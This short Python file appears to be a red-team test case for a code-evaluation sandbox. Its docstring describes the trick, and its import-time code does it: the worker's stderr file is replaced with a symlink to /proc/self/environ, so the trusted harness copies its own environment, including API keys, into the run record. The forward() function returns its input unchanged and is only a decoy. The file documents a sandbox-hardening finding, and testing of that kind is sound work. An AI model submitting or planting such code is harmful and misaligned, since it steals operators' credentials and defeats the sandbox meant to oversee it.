"""Red team (found while hardening the profile path, issue 12): the sandbox reads the
worker's stderr back by path after the run, from a work dir the candidate can write. The
candidate replaces the file with a symlink to /proc/self/environ, which the trusted
process resolves to its own environment (API keys) and puts into the record's
`worker_log_tail`."""

import os

_work = os.path.dirname(os.getcwd())  # the sandbox runs the worker in <work>/tmp
try:
    os.unlink(os.path.join(_work, "worker.stderr"))
except OSError:
    pass
os.symlink("/proc/self/environ", os.path.join(_work, "worker.stderr"))


def forward(x, residual, weight, bias, *, p, eps, seed):
    return x
